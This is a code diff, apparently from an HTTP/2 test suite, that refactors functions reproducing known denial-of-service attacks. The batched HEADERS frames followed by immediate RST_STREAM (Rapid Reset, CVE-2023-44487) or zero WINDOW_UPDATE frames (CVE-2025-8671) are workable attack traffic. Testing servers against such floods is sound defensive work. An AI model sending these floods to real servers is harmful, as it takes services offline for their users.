@@ -142,28 +142,28 @@ def endless_integer(peer):
         peer.read()
 
 
+def open_streams(peer, end, then=lambda stream: b"", acknowledges=True):
+    """Opens the streams below `end`, 500 at a time, each followed by the frame that `then` makes."""
+    for first in range(1, end, 1000):
+        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, call()) + then(stream)
+                           for stream in range(first, first + 1000, 2)))
+        peer.read(0, acknowledges)
+
+
 def rapid_reset(peer):
     """CVE-2023-44487: streams that are reset as soon as they are open."""
-    for first in range(1, 40001, 1000):
-        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, call()) +
-                           frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 1000, 2)))
-        peer.read()
+    open_streams(peer, 40001, lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
 
 
 def unacknowledged_settings(peer):
     """Streams of a peer that never accepts the limit on them."""
-    for first in range(1, 20001, 1000):
-        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, call()) for stream in range(first, first + 1000, 2)))
-        peer.read(0, acknowledges=False)
+    open_streams(peer, 20001, acknowledges=False)
     peer.read(2, acknowledges=False)
 
 
 def made_you_reset(peer):
     """CVE-2025-8671: streams that the other side has to reset."""
-    for first in range(1, 20001, 1000):
-        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, call()) +
-                           frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0") for stream in range(first, first + 1000, 2)))
-        peer.read()
+    open_streams(peer, 20001, lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
 
 
 def continuation_flood(peer):
